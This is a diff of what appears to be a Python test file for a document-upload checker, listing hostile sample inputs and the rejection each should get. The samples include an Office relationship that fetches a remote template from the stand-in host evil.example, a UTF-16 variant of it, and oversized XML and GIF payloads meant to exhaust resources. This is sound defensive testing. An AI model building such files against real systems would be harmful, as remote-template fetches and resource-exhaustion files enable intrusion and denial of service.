@@ -56,6 +56,7 @@ def _linked() -> bytes:
 
 
 FETCHING = b'<Relationships><Relationship TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
+ENDLESS = b"<a>" + b"<Relationship TargetMode='External'/>" * 60_000 + b"</a>"
 BAD = {  # name, bytes, words of the answer
     "a program": ("run.exe", b"MZ", "kind that is not taken"),
     "a page": ("page.html", b"<html>", "kind that is not taken"),
@@ -80,8 +81,7 @@ BAD = {  # name, bytes, words of the answer
     "encrypted": ("a.docx", _flagged(office(), 1), "encrypted"),
     "fetched from elsewhere, in another alphabet": (
         "a.docx", office(parts={"word/_rels/settings.xml.rels": FETCHING.decode().encode("utf-16")}), "fetches"),
-    "relations without end": (
-        "a.docx", office(parts={f"word/{n}.rels": b"<a>" + b"<Relationship TargetMode='External'/>" * 60_000 for n in range(9)}), "damaged"),
+    "relations without end": ("a.docx", office(parts={f"word/{n}.rels": ENDLESS for n in range(9)}), "damaged"),
     "a GIF of crumbs": ("a.gif", b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2" + b"\1a" * 12_000_000, "damaged"),
     "fetched from elsewhere": ("a.docx", office(parts={"word/_rels/settings.xml.rels": FETCHING}), "fetches"),
     "too many parts": ("a.docx", _many(), "damaged"),
